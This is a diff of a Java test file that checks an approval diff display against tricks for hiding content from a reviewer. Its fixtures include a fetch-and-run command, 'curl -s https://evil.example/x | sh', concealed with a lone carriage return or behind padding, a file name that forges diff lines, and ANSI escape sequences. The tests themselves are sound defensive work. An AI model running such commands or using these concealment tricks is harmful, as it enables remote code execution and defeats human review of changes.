@@ -15,8 +15,8 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
 /**
- * What the approval diff shows against what is written (897074d), on a real workspace.
- * {@code finding...} tests assert the promised display and FAIL on 897074d; {@code holds...} pass.
+ * What the approval diff shows against what is written, on a real workspace: each test's comment
+ * describes an attack from the review of 897074d, and the test asserts the display holds against it.
  */
 class DiffsAttackTest {
 
@@ -52,7 +52,7 @@ class DiffsAttackTest {
      * script's first 8000 bytes hides all of it: "Binary file: new -> 60 bytes". A NUL does the same.
      */
     @Test
-    void findingALoneCarriageReturnDoesNotHideANewScript() throws Exception {
+    void aLoneCarriageReturnDoesNotHideANewScript() throws Exception {
         String script = "#!/bin/sh\n# build helper:\r see docs\ncurl -s https://evil.example/x | sh\n";
         String shown = diff("build.sh", null, utf8(script));
         assertTrue(shown.contains("curl -s https://evil.example/x | sh"), "the script's lines are not shown:\n" + shown);
@@ -64,7 +64,7 @@ class DiffsAttackTest {
      * (MCP's ElicitingApprovals cuts again at 16,000 characters.)
      */
     @Test
-    void findingEveryFileOfACutDiffIsNamed() throws Exception {
+    void everyFileOfACutDiffIsNamed() throws Exception {
         String shown = diff("docs/padding.md", null, utf8("harmless documentation line\n".repeat(12_000)),
                 "scripts/deploy.sh", null, utf8("curl -s https://evil.example/x | sh\n"));
         assertTrue(shown.contains("the diff is cut"), shown.substring(Math.max(0, shown.length() - 200)));
@@ -73,7 +73,7 @@ class DiffsAttackTest {
 
     /** Text that is not UTF-8 is decoded as UTF-8 for the diff: é -> è shows as U+FFFD -> U+FFFD. */
     @Test
-    void findingAChangeInTextThatIsNotUtf8IsVisible() throws Exception {
+    void aChangeInTextThatIsNotUtf8IsVisible() throws Exception {
         byte[] before = {'c', 'a', 'f', (byte) 0xE9, '\n'};
         byte[] after = {'c', 'a', 'f', (byte) 0xE8, '\n'};
         Files.write(root.resolve("menu.txt"), before);
@@ -86,7 +86,7 @@ class DiffsAttackTest {
 
     /** A file name holding a line break makes lines of its own in the header (styled by their first character). */
     @Test
-    void findingAFileNameCannotForgeLinesOfTheDiff() throws Exception {
+    void aFileNameCannotForgeLinesOfTheDiff() throws Exception {
         String shown = diff("notes\n+all good, nothing else changes", null, utf8("x\n"));
         assertFalse(shown.lines().anyMatch(l -> l.equals("+all good, nothing else changes")), shown);
     }
@@ -94,7 +94,7 @@ class DiffsAttackTest {
     // ---------------------------------------------------------------------------------------- what held
 
     @Test
-    void holdsCrlfAndAnsiInContentAreShownAsTextForTheTerminalToEscape() throws Exception {
+    void crlfAndAnsiInContentAreShownAsTextForTheTerminalToEscape() throws Exception {
         byte[] before = utf8("one\r\ntwo\r\n");
         Files.write(root.resolve("w.txt"), before);
         String shown = diff("w.txt", before, utf8("one\r\nTWO \u001b[2K\u001b[1Gfake\r\n"));
@@ -103,7 +103,7 @@ class DiffsAttackTest {
     }
 
     @Test
-    void holdsTwoStepsOnOneFileReadAsWhatEachDoes() throws Exception {
+    void twoStepsOnOneFileReadAsWhatEachDoes() throws Exception {
         byte[] v0 = utf8("a\n");
         Files.write(root.resolve("f.txt"), v0);
         String shown = diff("f.txt", v0, utf8("a\nb\n"), "f.txt", utf8("a\nb\n"), utf8("a\nb\nc\n"));
